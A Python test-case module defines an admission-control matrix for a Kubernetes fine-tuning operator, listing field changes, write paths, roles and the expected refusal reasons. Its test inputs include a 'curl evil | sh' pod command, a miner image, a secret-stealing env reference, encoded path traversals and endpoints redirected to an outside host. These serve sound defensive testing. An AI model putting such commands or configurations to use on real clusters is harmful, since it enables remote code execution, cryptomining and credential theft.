"""The cases of tests/cluster/test_admission_matrix.py: every change of a protected field (FIELD_CHANGES) to each
running job (bases) by each write path (PATHS) as each role (ROLES), and what must happen, worked out by the
operator's own checks (api/runtime_layers.py: the live runtimes for a create, the recorded snapshot for an update),
the schema's, and the rules of api/job_rights.py from the role's rights, never written down."""

from __future__ import annotations

import copy
import json
import re
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any, TypeVar

from finetune_operator.api.errors import InvalidSpec
from finetune_operator.api.job_rights import changed_fields, configmap_names, mounts_nfs, secret_names
from finetune_operator.api.runtime import merge
from finetune_operator.api.runtime_layers import RUNTIME_NOT_ALLOWED, recorded, resolve_offline
from finetune_operator.api.sources import MODEL_SOURCE_FIELDS
from finetune_operator.api.validation import validate_job
from finetune_operator.controller.merge_patch import merge_patch
from tests.builders import make_job
from tests.support.polling import wait_until
from tests.support.tenant_api import Answer, TenantApi

T = TypeVar("T")

NAMESPACE_LABEL = {"finetunejob.dev/admission-matrix": "yes"}


def apply_list(kubectl: Any, *docs: dict) -> None:
    """Applies `docs` in one request (a v1 List), as an admin."""
    kubectl.run("apply", "-f", "-", input=json.dumps({"apiVersion": "v1", "kind": "List", "items": list(docs)}))


def until(check: Callable[[], T], what: str, timeout: float = 30) -> T:
    """Polls `check` until it returns something truthy, and returns that; fails saying `what` after `timeout`
    seconds."""
    return wait_until(what, check, timeout, 0.3)


QUEUE = "kueue.x-k8s.io/queue-name"
EVIL = "docker.io/evil/miner:latest"


def runtime(name: str, template: dict, limits: dict, default: bool = False, selector: dict | None = None) -> dict:
    spec: dict[str, Any] = {"default": default, "template": template, "limits": limits}
    if selector is not None:
        spec["namespaceSelector"] = selector
    return {"apiVersion": "finetunejob.dev/v1alpha1", "kind": "ClusterFineTuneRuntime",
            "metadata": {"name": name}, "spec": spec}


OURS = {"matchLabels": NAMESPACE_LABEL}
# As the jobs start, and as the admin tightens them afterwards (a create is judged by the second, a started job by
# the first, as recorded).
# gpu-small lends a Secret (a platform token): what says where credentials go is locked under it.
LENT = {"name": "PLATFORM_TOKEN", "secretName": "platform-hf", "key": "token"}
STARTED = [
    runtime("matrix-gpu-small", {"pod": {"image": "registry.local/trainer:ok", "secretEnv": [LENT]},
                                 "distributed": {"gpusPerNode": 2}},
            {"locked": ["pod.image", "queueName", "pod.priorityClassName"], "maxNodes": 2, "maxGpusPerJob": 4,
             "maxActiveDeadlineSeconds": 86400, "allowedModelSources": ["/models/"], "allowedDataSources": ["/data/"],
             "allowedClaims": ["team-data"], "allowedOutputs": ["s3://team-runs/", "team/"]}, selector=OURS),
    runtime("matrix-gpu-large", {}, {}, selector=OURS),
    runtime("matrix-elsewhere", {}, {}, selector={"matchLabels": {"team": "someone-else"}}),
    runtime("matrix-default", {"distributed": {"gpusPerNode": 1}}, {"maxGpusPerJob": 2,
                                                                    "maxActiveDeadlineSeconds": 86400},
            default=True, selector=OURS),
]
TIGHTENED = [copy.deepcopy(r) for r in STARTED]
TIGHTENED[0]["spec"]["limits"].update(maxGpusPerJob=2, locked=["pod.image", "queueName", "pod.volumes"])
TIGHTENED[3]["spec"]["limits"].update(maxGpusPerJob=1)


def lean(name: str, ns: str, **spec: Any) -> dict:
    doc = make_job({"metadata.name": name, "metadata.namespace": ns, "spec.runPolicy": {"activeDeadlineSeconds": 3600}})
    for section in ("distributed", "resources", "pod"):
        doc["spec"].pop(section, None)
    doc["spec"].update(copy.deepcopy(spec))
    return doc


def bases(ns: str) -> dict[str, dict]:
    return {
        "under-a-runtime": lean("under-a-runtime", ns, runtimeRef={"name": "matrix-gpu-small"}),
        "under-the-default": lean("under-the-default", ns),
        "as-a-service-account": lean("as-a-service-account", ns, runtimeRef={"name": "matrix-gpu-large"},
                                     pod={"serviceAccountName": "deployer", "image": "registry.local/alice:1",
                                          "secretEnv": [{"name": "ALICE_TOKEN", "secretName": "alice-token",
                                                         "key": "token"}]}),
    }


# --- the changes: field -> named edits of a job (each returns the job as the tenant wants it) -------------------
Change = Callable[[dict], dict]


def _at(path: str, value: Any) -> Change:
    def change(obj: dict) -> dict:
        node = obj
        *parents, leaf = path.split(".")
        for part in parents:
            node = node.setdefault(part, {})
        node[leaf] = copy.deepcopy(value)
        return obj
    return change


def _without(path: str) -> Change:
    def change(obj: dict) -> dict:
        node = obj
        *parents, leaf = path.split(".")
        for part in parents:
            node = node.get(part) or {}
        node.pop(leaf, None)
        return obj
    return change


def _added(path: str, item: Any) -> Change:
    def change(obj: dict) -> dict:
        node = obj
        *parents, leaf = path.split(".")
        for part in parents:
            node = node.setdefault(part, {})
        node[leaf] = [*node.get(leaf, []), copy.deepcopy(item)]
        return obj
    return change


def _label(key: str, value: str) -> Change:
    def change(obj: dict) -> dict:
        obj["metadata"]["labels"] = {**(obj["metadata"].get("labels") or {}), key: value}
        return obj
    return change


SECRET_VOLUME = {"name": "creds", "mountPath": "/creds", "secret": "alice-token"}
CLAIM_VOLUME = {"name": "theirs", "mountPath": "/theirs", "claimName": "someone-elses-claim"}
NFS_VOLUME = {"name": "export", "mountPath": "/export", "nfs": {"server": "nfs.team-b", "path": "/b"}}
CONFIGMAP_VOLUME = {"name": "settings", "mountPath": "/settings", "configMap": "team-settings"}
ELSEWHERE = "https://elsewhere.example"
PRIORITY = "kueue.x-k8s.io/priority-class"
def _grpo(reward_model: str | None = None, code: str | None = None) -> Change:
    """The job turned into GRPO (method, its prompts and batch) with a reward model at `reward_model` (its weights
    are a model source, rewards[1].model) or a reward function from the ConfigMap `code` (Python the job brings)."""
    second = ({"type": "model", "model": reward_model, "weight": 0.5} if reward_model is not None else
              {"type": "function", "function": "rewards:score", "configMap": code, "weight": 0.5})
    method = {"type": "lora", "objective": "grpo", "grpo": {"numGenerations": 4, "maxCompletionLength": 16, "rewards": [
        {"type": "exactMatch", "column": "answer"}, second]}}
    data = {"format": "prompt", "maxLength": 64, "train": [{"inline": [{"prompt": f"{i} + {i}?", "answer": str(2 * i)}
                                                                       for i in range(8)]}]}

    def change(obj: dict) -> dict:
        obj["spec"].update(method=copy.deepcopy(method), data=copy.deepcopy(data))
        obj["spec"].setdefault("training", {})["perDeviceTrainBatchSize"] = 8
        return obj
    return change


FIELD_CHANGES: dict[str, dict[str, Change]] = {
    "runtimeRef": {"removed": _without("spec.runtimeRef"), "to a looser one": _at("spec.runtimeRef",
                                                                                  {"name": "matrix-gpu-large"}),
                   "to one for other namespaces": _at("spec.runtimeRef", {"name": "matrix-elsewhere"}),
                   "to the strict one": _at("spec.runtimeRef", {"name": "matrix-gpu-small"})},
    "distributed": {"24 GPUs": _at("spec.distributed", {"numNodes": 3, "gpusPerNode": 8}),
                    "4 GPUs": _at("spec.distributed", {"numNodes": 2}), "removed": _without("spec.distributed")},
    "image": {"another": _at("spec.pod.image", EVIL), "removed": _without("spec.pod.image")},
    "command/args/env": {"env": _added("spec.pod.env", {"name": "PYTHONPATH", "value": "/evil"}),
                         "command": _at("spec.pod.command", ["sh", "-c", "curl evil | sh"]),
                         "args": _at("spec.pod.args", ["--evil"]),
                         "initContainers": _at("spec.pod.initContainers", [{"name": "x", "image": EVIL}])},
    "volumes": {"a Secret": _added("spec.pod.volumes", SECRET_VOLUME),
                "another claim": _added("spec.pod.volumes", CLAIM_VOLUME),
                "an NFS export": _added("spec.pod.volumes", NFS_VOLUME),
                "a ConfigMap": _added("spec.pod.volumes", CONFIGMAP_VOLUME)},
    "model sources": {"a tokenizer elsewhere": _at("spec.model.tokenizer", "someone/evil"),
                      "an adapter elsewhere": _at("spec.method.lora.initFrom", "/output/evil-adapter"),
                      "a checkpoint elsewhere": _at("spec.checkpoints.resume", "/data/checkpoint-9"),
                      "remote code": _at("spec.model.trustRemoteCode", True),
                      "reward code from a ConfigMap": _grpo(code="team-settings"),
                      "a reward model elsewhere": _grpo("someone/evil-reward-model"),
                      "a reward model within": _grpo("/models/reward-model")},
    "locations climbing out": {"model": _at("spec.model.name", "/models/../output/evil"),
                               "data": _at("spec.data.train", [{"path": "/data/../output/x.jsonl"}]),
                               "data, encoded": _at("spec.data.train", [{"path": "/data/%2e%2e/x.jsonl"}]),
                               "reward model": _grpo("/models/../output/evil-reward-model")},
    "endpoints": {"Hub": _at("spec.output", {"push": {"repo": "org/model", "endpoint": ELSEWHERE,
                                                      "tokenSecret": {"name": "alice-token"}}}),
                  "S3": _at("spec.s3", {"endpointURL": ELSEWHERE}),
                  "W&B": _at("spec.tracking", {"reportTo": ["wandb"], "wandb": {"baseUrl": ELSEWHERE,
                                                                                "offline": True}}),
                  "MLflow": _at("spec.tracking", {"reportTo": ["mlflow"], "mlflow": {"trackingUri": ELSEWHERE}}),
                  "another W&B team": _at("spec.tracking", {"reportTo": ["wandb"], "wandb": {"entity": "team-b",
                                                                                             "offline": True}}),
                  "another tracker project": _at("spec.tracking", {"reportTo": ["wandb"], "project": "team-b-prod",
                                                                   "wandb": {"offline": True}})},
    "outputs": {"another bucket prefix": _at("spec.output", {"uri": "s3://models/prod/llama-8b"}),
                "another Hub repository": _at("spec.output", {"push": {"repo": "platform-org/production-model",
                                                                         "tokenSecret": {"name": "fiona-token"}}}),
                "within": _at("spec.output", {"uri": "s3://team-runs/fiona/run-1"})},
    "secretEnv": {"an unreadable Secret": _added("spec.pod.secretEnv", {"name": "STOLEN", "secretName": "alice-token",
                                                                        "key": "token"}),
                  "a readable Secret": _added("spec.pod.secretEnv", {"name": "MINE", "secretName": "fiona-token",
                                                                     "key": "token"})},
    "serviceAccountName": {"deployer": _at("spec.pod.serviceAccountName", "deployer"),
                           "removed": _without("spec.pod.serviceAccountName")},
    "imagePullSecrets": {"unreadable": _at("spec.pod.imagePullSecrets", ["alice-token"]),
                         "readable": _at("spec.pod.imagePullSecrets", ["fiona-token"])},
    "other Secret references": {"s3": _at("spec.s3", {"credentialsSecret": "alice-token"}),
                                "hub token": _at("spec.output", {"push": {"repo": "org/model",
                                                                          "tokenSecret": {"name": "alice-token"}}})},
    "deadlines": {"over the limit": _at("spec.runPolicy.activeDeadlineSeconds", 999999),
                  "within": _at("spec.runPolicy.activeDeadlineSeconds", 7200),
                  "removed": _without("spec.runPolicy.activeDeadlineSeconds")},
    "queue": {"a queue label": _label(QUEUE, "team-q"), "a priority label": _label(PRIORITY, "high"),
              "labels removed": _without("metadata.labels")},
    "what runs (other fields)": {"training": _at("spec.training", {"learningRate": 0.1}),
                                 "annotations": _at("spec.pod.annotations", {"vault.example.com/inject": "true"})},
    "suspend and runPolicy (harmless)": {"suspend": _at("spec.suspend", True),
                                         "backoffLimit": _at("spec.runPolicy.backoffLimit", 1)},
}
UNKNOWN = ("command", "args", "initContainers")  # not in the schema: refused as unknown fields, never pruned
PATHS = ("create", "update", "merge", "json", "strategic", "apply")


@dataclass(frozen=True)
class Role:
    name: str
    writes: bool  # may create/update/patch FineTuneJobs (RBAC)
    pods: bool  # may create pods (so may run as any ServiceAccount)
    secrets: frozenset[str] | None  # Secrets it may get (None: every one in the namespace)
    configmaps: bool = False  # may get the namespace's ConfigMaps


ROLES = (Role("edit", True, True, None, True), Role("finetunejob-only", True, False, frozenset({"fiona-token"})),
         Role("view", False, False, frozenset()), Role("trainer-token", False, False, frozenset()),
         Role("unbound-sa-token", False, False, frozenset()))
IMMUTABLE = ("runtimeRef", "model", "method")  # the CRD's own rule: the API server refuses any change
# The locations whose spelling the schema checks (api/sources.py): every model source, and the data's.
LOCATIONS = re.compile("^(" + "|".join(re.escape(f).replace(r"\[\]", r"\[\d+\]") for f in MODEL_SOURCE_FIELDS) +
                       r"|spec\.data\.(train|validation)\[\d+\]\.(path|hub\.name))$")
# Changes a writer's create under the strict runtime must see refused, by a limit or the schema, whatever the
# operator's own check says (so a field both checks forgot fails here too).
MUST_REFUSE = {"model sources": {"a tokenizer elsewhere", "an adapter elsewhere", "a checkpoint elsewhere",
                                 "remote code", "reward code from a ConfigMap", "a reward model elsewhere"},
               "locations climbing out": {"model", "data", "data, encoded", "reward model"},
               "outputs": {"another bucket prefix", "another Hub repository"},
               "endpoints": set(FIELD_CHANGES["endpoints"])}  # the strict runtime lends a Secret
REASONS = {"rbac", "strategic", "unknown", "immutable", "schema", "selector", "limits", "identity", "nfs",
           "secrets", "configmaps"}


# --- the expected outcome -----------------------------------------------------------------------------------------
def result(base: dict, wanted: dict, path: str) -> dict:
    """The object the API server would store: what was sent, except server-side apply, which never removes a field
    the applier did not set before (the base jobs' fields belong to whoever created them)."""
    if path == "apply":
        return {**base, "metadata": {**base["metadata"], **merge(base["metadata"], wanted["metadata"])},
                "spec": merge(base["spec"], wanted["spec"])}
    return wanted


def _ref(obj: dict) -> dict | None:
    """spec.runtimeRef as stored (the API server fills in its kind)."""
    ref = obj["spec"].get("runtimeRef")
    return None if ref is None else {"kind": "ClusterFineTuneRuntime", **ref}


def unknown_fields(obj: dict) -> list[str]:
    return [f"spec.pod.{k}" for k in UNKNOWN if k in (obj["spec"].get("pod") or {})]


def expected(role: Role, path: str, base: dict | None, obj: dict, snapshot: dict | None,
             runtimes: list[dict]) -> set[str]:
    """Why the API server must refuse `obj` (the empty set: admit it); base None for a create."""
    if _ref(obj) is not None:
        obj = {**obj, "spec": {**obj["spec"], "runtimeRef": _ref(obj)}}
    if not role.writes:
        return {"rbac"}
    if path == "strategic":
        return {"strategic"}
    if unknown_fields(obj):
        return {"unknown"}
    if base is not None and any(base["spec"].get(k) != obj["spec"].get(k) for k in IMMUTABLE[1:]) or (
            base is not None and _ref(base) != _ref(obj)):
        return {"immutable"}
    if schema_errors(obj):
        return {"schema"}
    reasons = set()
    if base is None:
        resolved = resolve_offline(obj, runtimes, lambda: {**NAMESPACE_LABEL,
                                                           "kubernetes.io/metadata.name": obj["metadata"]["namespace"]})
        if resolved.missing is not None:
            assert resolved.reason == RUNTIME_NOT_ALLOWED, resolved.missing
            reasons.add("selector")
    else:
        resolved = recorded(obj, snapshot)
    if resolved.missing is None:
        validate_job(resolved.obj)  # a malformed case would hide its limits (every case is a valid job)
        if resolved.errors:
            reasons.add("limits")
    changed = changed_fields(base, obj)
    if changed and (obj["spec"].get("pod") or {}).get("serviceAccountName") and not role.pods:
        reasons.add("identity")
    if changed and mounts_nfs(obj) and not role.pods:
        reasons.add("nfs")
    names = {n for ns in secret_names(obj).values() for n in ns}
    if changed and role.secrets is not None and names - role.secrets:
        reasons.add("secrets")
    if changed and any(configmap_names(obj).values()) and not role.configmaps:
        reasons.add("configmaps")
    return reasons


def schema_errors(obj: dict) -> list[str]:
    """The locations (api/sources.py) whose spelling the CRD's schema refuses, by path."""
    try:
        validate_job(obj)
    except InvalidSpec as exc:
        return [e.path for e in exc.errors if LOCATIONS.match(e.path)]
    return []


def said(reason: str, answer: Answer, obj: dict, base: dict | None, snapshot: dict | None,
         runtimes: list[dict]) -> bool:
    """The refusal is this reason's, and names the field and what is missing."""
    m = answer.message
    if reason == "rbac":
        return answer.status == 403 and "cannot" in m
    if reason == "strategic":
        return answer.status == 415
    if reason == "unknown":
        # Server-side apply says it while building the typed patch (500, "field not declared in schema").
        return answer.status in (400, 422, 500) and ("unknown field" in m or "field not declared in schema" in m) \
            and any(f in m for f in unknown_fields(obj))
    if reason == "immutable":
        return answer.status == 422 and "is immutable" in m
    if reason == "schema":
        return answer.status == 422 and all(path in m for path in schema_errors(obj))
    if reason == "selector":
        return answer.status == 403 and "may not be used in namespace" in m and "spec.runtimeRef" in m
    if reason == "limits":
        errors = (resolve_offline(obj, runtimes).errors if base is None else recorded(obj, snapshot).errors)
        # A limit by its name, a lock (explicit, or of a runtime that lends credentials) by the field it locks.
        said_by = {(re.search(r"limits\.\w+", e.message) or [e.path])[0] for e in errors}
        return answer.status == 403 and any(key in m for key in said_by)
    if reason == "identity":
        fields = changed_fields(base, obj)
        named = "spec.pod.serviceAccountName" if base is None else None
        return answer.status == 403 and "needs the right to create pods" in m and (
            (named is not None and named in m) or any(f in m for f in fields))
    if reason == "nfs":
        return answer.status == 403 and "NFS export needs the right to create pods" in m
    if reason == "configmaps":
        return answer.status == 403 and "may not get it" in m and any(
            f"ConfigMap {n}" in m for names in configmap_names(obj).values() for n in names)
    if reason == "secrets":
        refs = secret_names(obj)
        return answer.status == 403 and "may not get it" in m and any(
            f"{field}" in m and f"Secret {n}" in m for field, names in refs.items() for n in names)
    raise AssertionError(reason)


# --- the requests ---------------------------------------------------------------------------------------------------
def json_patch(before: Any, after: Any, at: str = "") -> list[dict]:
    ops: list[dict] = []
    for key in before:
        if key not in after:
            ops.append({"op": "remove", "path": f"{at}/{_escape(key)}"})
    for key, value in after.items():
        where = f"{at}/{_escape(key)}"
        if key not in before:
            ops.append({"op": "add", "path": where, "value": value})
        elif isinstance(value, dict) and isinstance(before[key], dict):
            ops += json_patch(before[key], value, where)
        elif value != before[key]:
            ops.append({"op": "replace", "path": where, "value": value})
    return ops


def _escape(key: str) -> str:
    return key.replace("~", "~0").replace("/", "~1")


def _writable(obj: dict) -> dict:
    labels = obj["metadata"].get("labels")
    return {"metadata": {"labels": labels} if labels is not None else {}, "spec": obj["spec"]}


def send(api: TenantApi, path: str, stored: dict, wanted: dict, name: str) -> Answer:
    ns = stored["metadata"]["namespace"]
    if path == "create":
        fresh = {"apiVersion": wanted["apiVersion"], "kind": wanted["kind"],
                 "metadata": {"name": name, "namespace": ns, "labels": wanted["metadata"].get("labels") or {}},
                 "spec": wanted["spec"]}
        return api.create(fresh)
    if path == "update":
        return api.update({**stored, "metadata": {**stored["metadata"], "labels": wanted["metadata"].get("labels")},
                           "spec": wanted["spec"]})
    if path in ("merge", "strategic"):
        return api.patch(ns, stored["metadata"]["name"], path, merge_patch(_writable(stored), _writable(wanted)))
    if path == "json":
        ops = json_patch(_writable(stored), _writable(wanted)) or [{"op": "test", "path": "/spec", "value":
                                                                   stored["spec"]}]
        return api.patch(ns, stored["metadata"]["name"], "json", ops)
    applied = {"apiVersion": wanted["apiVersion"], "kind": wanted["kind"],
               "metadata": {"name": stored["metadata"]["name"], "namespace": ns,
                            **({"labels": wanted["metadata"]["labels"]} if wanted["metadata"].get("labels") else {})},
               "spec": wanted["spec"]}
    return api.patch(ns, stored["metadata"]["name"], "apply", applied, manager=f"tenant-{api.user or 'token'}")
